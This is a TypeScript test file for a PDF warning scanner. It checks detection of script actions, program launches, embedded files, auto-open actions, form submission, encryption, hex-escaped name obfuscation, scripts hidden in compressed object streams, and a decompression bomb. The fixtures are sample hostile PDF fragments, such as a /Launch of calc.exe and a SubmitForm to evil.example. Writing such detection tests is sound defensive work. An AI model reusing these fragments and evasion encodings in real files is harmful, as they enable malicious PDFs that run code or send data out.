import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { countIterations } from '../../testing/count-iterations.ts'
import { pdfWarnings } from './pdf-warnings.ts'

/** A PDF with one stream, described by `dictionary`. */
function withStream(dictionary: string, content: Buffer | string): Buffer {
  const head = `%PDF-1.7\n1 0 obj\n<< ${dictionary} >>\nstream\r\n`
  return Buffer.concat([Buffer.from(head), Buffer.from(content), Buffer.from('\nendstream\nendobj\n%%EOF\n')])
}

const SCRIPT = '5 0 << /S /JavaScript /JS (app.alert(1)) >>'
const COMPRESSED = deflateSync(SCRIPT)

test.each([
  ['%PDF-1.7 << /Type /Catalog >>', []],
  ['%PDF-1.7 << /S /JavaScript /JS (app.alert(1)) >>', ['runs scripts']],
  ['%PDF-1.7 << /S /J#61vaScript >>', ['runs scripts']],
  ['%PDF-1.7 << /S/#4A#61#76#61#53#63#72#69#70#74>>', ['runs scripts']],
  ['%PDF-1.7 << /S/JavaScript%comment\n/JS 3 0 R >>', ['runs scripts']],
  ['%PDF-1.7 << /JS(app.alert(1)) >>', ['runs scripts']],
  ['%PDF-1.7 << /S /Launch /F (calc.exe) >>', ['starts programs']],
  ['%PDF-1.7 << /S /Launc#68 /F (calc.exe) >>', ['starts programs']],
  ['%PDF-1.7 << /Type /EmbeddedFile >>', ['carries other files']],
  ['%PDF-1.7 << /OpenAction 3 0 R >>', ['acts when it is opened']],
  ['%PDF-1.7 << /AA<</O 3 0 R>> >>', ['acts when it is opened']],
  ['%PDF-1.7 << /XFA[(template) 4 0 R] >>', ['holds a dynamic form']],
  ['%PDF-1.7 << /S/SubmitForm/F(https://evil.example) >>', ['sends or fetches data']],
  ['%PDF-1.7 << /S/ImportData >>', ['sends or fetches data']],
  ['%PDF-1.7 << /S/GoToR >>', ['opens other documents']],
  ['%PDF-1.7 << /Subtype/RichMedia >>', ['plays media']],
  ['%PDF-1.7 trailer << /Encrypt 9 0 R >>', ['is encrypted, so that it could not be looked into']],
  ['%PDF-1.7 << /JavaScripts /Launcher /#4 /# /JSON /A#41B >>', []],
])('T17: %j', async (text, remarks) => {
  expect(await pdfWarnings(Buffer.from(text))).toEqual(remarks)
})

test.each([
  ['compressed with its full name', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'],
  ['compressed with its short name', '/Type/ObjStm/N 1/First 4/Filter[/Fl]'],
  ['disguised', '/Type/Ob#6aStm/Filter/Flate#44ecode'],
  ['without its type', '/N 1 /First 4 /Filter /FlateDecode'],
])('T17: a script in an object stream that is %s is found', async (_what, dictionary) => {
  expect(await pdfWarnings(withStream(dictionary, COMPRESSED))).toEqual(['runs scripts'])
})

test('T17: a script in a stream that is not compressed is found, short names in compressed bytes are not', async () => {
  expect(await pdfWarnings(withStream('/Length 60', SCRIPT))).toEqual(['runs scripts'])
  expect(await pdfWarnings(withStream('/Filter /DCTDecode', '\u0001/JS \u0002/AA '))).toEqual([])
})

test.each([
  [
    'compressed in a way that is not looked into',
    '/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]',
    COMPRESSED,
  ],
  ['compressed with a predictor', '/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>', COMPRESSED],
  ['compressed in a way that nobody knows', '/Type/ObjStm/Filter/Other', COMPRESSED],
  ['damaged', '/Type/ObjStm/Filter/FlateDecode', Buffer.from('no zlib')],
  ['a decompression bomb', '/Type/ObjStm/Filter/FlateDecode', deflateSync(Buffer.alloc(64 * 1024 * 1024))],
])('T17: an object stream that is %s is remarked on', async (_what, dictionary, content) => {
  expect(await pdfWarnings(withStream(dictionary, content))).toEqual([
    'has parts that could not be looked into',
  ])
})

const FIVE_MEGABYTES = 5 * 1024 * 1024
const tiny = withStream('/Type/ObjStm/Filter/FlateDecode', COMPRESSED).toString('latin1')

test.each([
  ['slashes', '/'],
  ['long names', `/${'#41'.repeat(300)}`],
  ['different names', '/abc/def#20/ghi '],
  ['streams without an end', '<<>>stream\n'],
  ['streams', '1 0 obj<</N 1/First 2>>stream\nendstream\n'],
  ['compressed streams', tiny],
])('T17: 5 MB of %s are looked through in short stretches', async (_what, filling) => {
  const bytes = Buffer.alloc(FIVE_MEGABYTES, filling, 'latin1')
  bytes.write('%PDF-1.7\n')
  expect(await countIterations(() => pdfWarnings(bytes))).toBeGreaterThan(30)
})
